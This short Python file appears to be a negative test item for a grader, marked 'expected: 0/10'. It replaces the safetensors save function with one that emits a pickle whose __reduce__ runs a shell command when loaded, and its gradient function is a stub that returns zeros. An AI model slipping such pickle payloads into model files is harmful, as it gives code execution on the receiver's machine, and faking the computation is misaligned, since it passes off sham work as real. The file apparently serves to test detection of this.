# expected: 0/10
# A pickle in place of the arrays, for a receiver that would load it.
import os
import pickle

import numpy as np
import safetensors.numpy


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/LEAKED",)


safetensors.numpy.save = lambda arrays: pickle.dumps(Command())


def logit_gradient(model, x, target):
    return np.zeros_like(x)


sensitivity_analysis = logit_gradient
